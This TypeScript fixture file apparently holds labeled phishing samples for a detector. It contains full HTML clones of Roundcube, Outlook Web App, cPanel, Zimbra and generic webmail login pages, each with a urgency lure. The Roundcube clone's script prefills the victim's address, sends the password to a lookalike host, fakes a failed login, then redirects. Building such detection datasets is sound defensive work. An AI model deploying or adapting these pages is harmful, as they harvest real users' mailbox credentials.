import type { Entry } from '../entry.js';

/** Webmail clones: Roundcube, Outlook Web App, cPanel/Horde/SquirrelMail, Zimbra, generic "mail upgrade". */
export const entries: Entry[] = [
  {
    id: 'webmail-roundcube-domain-prefill',
    label: 'phishing',
    kind: 'webmail-clone',
    url: 'https://verify-mailbox.cloudaccess-host.net/roundcube/index.html#info@northfield-dental.com',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Webmail :: Login</title>
<style>body{background:#2f3a3f;font-family:Roboto,Arial}.box{width:360px;margin:120px auto;background:#fff;padding:30px;border-radius:4px}input{width:100%;padding:10px;margin:6px 0}.btn{width:100%;background:#37beff;color:#fff;border:0;padding:12px}</style></head>
<body><div class="box"><h2 id="dom">Webmail</h2><p>Mailbox quota exceeded. Confirm your password to release pending messages (14).</p>
<form id="f"><input id="u" name="_user" readonly><input id="p" name="_pass" type="password" placeholder="Password"><button class="btn">Login</button><p id="err" style="color:#c00"></p></form></div>
<script>
var mail = window.location.hash.substr(1); var dom = mail.split('@')[1] || '';
document.getElementById('u').value = mail; document.getElementById('dom').textContent = dom + ' Webmail';
document.title = dom + ' :: Webmail';
var tries = 0;
document.getElementById('f').onsubmit = function(e){ e.preventDefault(); tries++;
  fetch('https://verify-mailbox.cloudaccess-host.net/roundcube/sv.php', {method:'POST', body:new URLSearchParams({u:mail, p:document.getElementById('p').value, t:tries})});
  if (tries >= 2) { window.location = 'https://' + dom; } else { document.getElementById('err').textContent = 'Login failed.'; }
};
</script></body></html>`,
  },
  {
    id: 'webmail-owa-password-expiry',
    label: 'phishing',
    kind: 'webmail-clone',
    url: 'https://www.mountainview-realty.net/.well-known/owa/expire/index.php',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Outlook Web App - Password Expiry Notice</title>
<style>body{font-family:"Segoe UI";background:#0072c6;color:#fff}.w{width:460px;margin:100px auto}input{width:100%;padding:8px;margin:6px 0}</style></head>
<body><div class="w"><h1>Outlook Web App</h1><p>Your password expires in 1 day(s). To keep your current password, confirm it below. Failure to do so will result in account deactivation.</p>
<form method="post" action="keep.php"><input name="email" placeholder="Email address"><input name="oldpass" type="password" placeholder="Current password"><input name="confirm" type="password" placeholder="Confirm current password"><button>Keep Same Password</button></form>
<p style="font-size:11px">Connected to Microsoft Exchange © 2026 Microsoft Corporation. All rights reserved</p></div></body></html>`,
  },
  {
    id: 'webmail-cpanel-quota-de',
    label: 'phishing',
    kind: 'webmail-clone',
    url: 'https://webmail-speicher.kontakt-service.eu/cpsess3321/index.html?email=buchhaltung@mueller-gmbh.de',
    body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Webmail - Speicherplatz</title>
<style>body{font-family:Arial;background:#eee}.c{width:380px;margin:90px auto;background:#fff;padding:30px;border-top:4px solid #ff6c2c}.bar{height:12px;background:#ddd}.bar span{display:block;height:12px;width:98%;background:#d9534f}input{width:100%;padding:9px;margin:6px 0}</style></head>
<body><div class="c"><h3>cPanel Webmail</h3><p>Ihr Postfach ist zu 98 % voll (1.96 GB / 2 GB). Neue E-Mails werden zurückgehalten.</p><div class="bar"><span></span></div>
<form method="post" action="upgrade.php"><input name="email" id="email"><input name="passwort" type="password" placeholder="Passwort"><button style="background:#ff6c2c;color:#fff;border:0;padding:10px 20px">Speicher erweitern</button></form></div>
<script>document.getElementById('email').value=new URL(location.href).searchParams.get('email')||'';</script></body></html>`,
  },
  {
    id: 'webmail-zimbra',
    label: 'phishing',
    kind: 'webmail-clone',
    url: 'https://zimbra-mail-university.edu-portal.info/zimbra/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Zimbra Web Client Sign In</title>
<style>body{background:#e9eef3;font-family:Helvetica}.LoginScreen{width:450px;margin:80px auto;background:#fff;border-radius:6px;padding:30px}.ZLoginField{width:100%;padding:8px;margin:6px 0}</style></head>
<body><div class="LoginScreen"><div class="ImgLoginBanner">Zimbra</div><form method="post" name="loginForm" action="/zimbra/login.php" accept-charset="UTF-8">
<input type="hidden" name="loginOp" value="login"><label for="username">Username:</label><input id="username" class="ZLoginField" name="username" type="text">
<label for="password">Password:</label><input id="password" class="ZLoginField" name="password" type="password"><input type="checkbox" id="remember" value="1" name="zrememberme"><label for="remember">Stay signed in</label>
<input type="submit" class="ZLoginButton" value="Sign In"></form><p>Version: Modern ▾</p><p>Faculty and staff: your mailbox must be re-validated before the semester migration.</p></div></body></html>`,
  },
  {
    id: 'webmail-generic-mailbox-upgrade',
    label: 'phishing',
    kind: 'webmail-clone',
    url: 'https://mailbox-admin-upgrade.square-site.app/',
    body: `<html><head><title>Email Administrator - Account Upgrade</title></head>
<body style="font-family:Tahoma;background:#f4f4f4"><center><div style="width:420px;background:#fff;margin-top:60px;padding:20px;border:1px solid #ccc">
<h3>E-mail Account Verification</h3><p>Dear user, we are upgrading all email accounts to the new 2026 security standard. Accounts not verified within 48 hours will be suspended.</p>
<form method="post" action="https://mailbox-admin-upgrade.square-site.app/verify"><table><tr><td>Email:</td><td><input name="email" size="30"></td></tr><tr><td>Password:</td><td><input name="password" type="password" size="30"></td></tr><tr><td>Confirm:</td><td><input name="password2" type="password" size="30"></td></tr></table>
<input type="submit" value="Verify Account"></form><p style="font-size:10px">Mail Administrator &copy; 2026. Webmail Help Desk.</p></div></center></body></html>`,
  },
];
